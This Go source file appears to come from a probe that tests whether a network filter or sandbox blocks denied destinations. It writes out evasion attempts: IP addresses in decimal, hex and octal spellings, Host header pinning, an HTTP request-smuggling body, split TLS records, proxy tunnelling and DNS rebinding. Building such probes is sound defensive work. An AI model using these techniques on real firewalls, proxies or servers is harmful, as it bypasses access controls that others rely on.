package probe

import (
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

type attempt = func(*try) (string, error)

// direct says words to a port of the attempt's own address.
func direct(port uint16, words ...string) attempt {
	return func(t *try) (string, error) {
		c, err := t.tcp(t.Denied, port)
		return say(c, err, append(words, t.Sign+"\r\n")...)
	}
}

// place fetches a page of an address in the way that the mode has.
func place(addr func(*try) netip.Addr, port uint16) attempt {
	return func(t *try) (string, error) {
		c, err := t.open("", addr(t), port)
		return say(c, err, t.request(addr(t).String()))
	}
}

func special(i int) func(*try) netip.Addr { return func(*try) netip.Addr { return Specials[i] } }

// web says requests to the allowed host.
func web(words func(*try) []string) attempt {
	return func(t *try) (string, error) {
		c, err := t.open(Host, t.Allowed, 80)
		return say(c, err, words(t)...)
	}
}

// hosted asks the allowed host for another, by the Host that f gives.
func hosted(f func(*try) string) attempt {
	return web(func(t *try) []string { return []string{t.request(f(t))} })
}

// later asks for something after a first request that is allowed.
func later(apart bool) attempt {
	return func(t *try) (string, error) {
		c, err := t.open(Host, t.Allowed, 80)
		if err != nil {
			return "", err
		}
		if !apart {
			return beyond(c, nil, plain+t.request(t.evil()))
		}
		if _, err := c.Write([]byte(plain)); err != nil {
			return "", err
		}
		var b [512]byte
		if _, err := c.Read(b[:]); err != nil {
			return "", err
		}
		return say(c, nil, t.request(t.evil()))
	}
}

// greeted says a ClientHello to the allowed host.
func greeted(hello func(*try) (string, error)) attempt {
	return func(t *try) (string, error) {
		c, err := t.open(Host, t.Allowed, 443)
		h, herr := hello(t)
		return t.secure(c, err, h, herr)
	}
}

// records cuts what is in one TLS record into two.
func records(h string) string {
	body, at := h[5:], 20
	rec := func(b string) string { return "\x16\x03\x01" + string([]byte{byte(len(b) >> 8), byte(len(b))}) + b }
	return rec(body[:at]) + rec(body[at:])
}

// spelled is the attempt's own address in another spelling.
func spelled(how string) func(*try) string {
	return func(t *try) string {
		b := t.Denied.As4()
		switch how {
		case "decimal":
			return fmt.Sprint(uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3]))
		case "hex":
			return fmt.Sprintf("0x%02x.0x%02x.0x%02x.0x%02x", b[0], b[1], b[2], b[3])
		case "octal":
			return fmt.Sprintf("0%o.0%o.0%o.0%o", b[0], b[1], b[2], b[3])
		case "short":
			return fmt.Sprintf("%d.%d.%d", b[0], b[1], uint32(b[2])<<8|uint32(b[3]))
		case "mapped":
			return fmt.Sprintf("[::ffff:%s]", t.Denied)
		}
		return t.Denied.String()
	}
}

// tunnelled asks the proxy for a connection with these words for its end.
func tunnelled(f func(*try) string) attempt {
	return func(t *try) (string, error) {
		c, err := t.tunnel(f(t))
		h, herr := t.hello(t.evil())
		return t.secure(c, err, h, herr)
	}
}

// proxied says words to the proxy, by say or beyond.
func proxied(by func(net.Conn, error, ...string) (string, error), f func(*try) []string) attempt {
	return func(t *try) (string, error) {
		at, err := netip.ParseAddrPort(t.Proxy)
		if err != nil {
			return "", err
		}
		c, err := t.tcp(at.Addr(), at.Port())
		return by(c, err, f(t)...)
	}
}

// steered fetches by a proxy that the program chose itself.
func steered(t *try) (string, error) {
	by := &url.URL{Scheme: "http", Host: netip.AddrPortFrom(t.Denied, 3128).String()}
	client := &http.Client{Timeout: patience, Transport: &http.Transport{Proxy: http.ProxyURL(by)}}
	req, err := http.NewRequestWithContext(t, http.MethodGet, "http://"+t.evil()+"/"+t.Sign, nil)
	if err != nil {
		return "", err
	}
	res, err := client.Do(req)
	if err != nil {
		return "", err
	}
	defer res.Body.Close()
	return res.Status, nil
}

// pinned goes to the attempt's own address in the name of the allowed host.
func pinned(tls bool) attempt {
	return func(t *try) (string, error) {
		if tls {
			c, err := t.tcp(t.Denied, 443)
			h, herr := t.hello(Host)
			return t.secure(c, err, h, herr)
		}
		c, err := t.tcp(t.Denied, 80)
		return say(c, err, t.request(Host))
	}
}

// rebound asks for a name whose owner chose where it leads, and goes there.
func rebound(kind string, kindOf uint16, port uint16) attempt {
	return func(t *try) (string, error) {
		name := "r" + t.Sign[len(t.Sign)-6:] + "." + kind + "." + Wild // not the sign: to ask for it is allowed
		addrs := t.Lookup(name)
		to := addrs[len(addrs)-1].Unmap()
		asked := ""
		if t.Proxy == "" {
			said, err := t.ask(question(name, kindOf, 1))
			asked = fmt.Sprintf("asked: %s %v; ", said, err)
		}
		c, err := t.open(name, to, port)
		if err != nil {
			return "", fmt.Errorf("%s%w", asked, err)
		}
		if port == 443 {
			h, herr := t.hello(name)
			return t.secure(c, nil, h, herr)
		}
		return say(c, nil, t.request(name))
	}
}

// smuggle is a request whose body two readers take for different things.
func smuggle(headers string) attempt {
	return func(t *try) (string, error) {
		inner := t.request(t.evil())
		body := "0\r\n\r\n" + inner
		c, err := t.open(Host, t.Allowed, 80)
		return beyond(c, err, "POST / HTTP/1.1\r\nHost: "+Host+"\r\n"+strings.ReplaceAll(headers, "N", fmt.Sprint(len(body)))+"\r\n"+body)
	}
}

// settled waits for the link's own IPv6 addresses, which are looked for twice in
// the first seconds of an interface: until then nothing is sent from them, or
// from another one that gets no answer. Where there is none it waits for nothing.
func settled(f attempt) attempt {
	return func(t *try) (string, error) {
		for end := time.Now().Add(settling); ; time.Sleep(patience / 12) {
			if late := time.Now().After(end); tentative() && !late {
				continue
			} else if said, err := f(t); !errors.Is(err, unix.EADDRNOTAVAIL) || late {
				return said, err
			}
		}
	}
}

// settling is more than the kernel takes: a delay of up to a second, and one
// second for an answer, for the address of the link and then for the other.
const settling = 5 * time.Second

// tentative reports whether an address is still being looked for.
func tentative() bool {
	b, err := os.ReadFile("/proc/net/if_inet6") // address, index, length, scope, flags, name
	if err != nil {
		return false
	}
	for line := range strings.Lines(string(b)) {
		if f := strings.Fields(line); len(f) == 6 {
			flags, err := strconv.ParseUint(f[4], 16, 32)
			if err == nil && flags&unix.IFA_F_TENTATIVE != 0 && flags&unix.IFA_F_DADFAILED == 0 {
				return true
			}
		}
	}
	return false
}
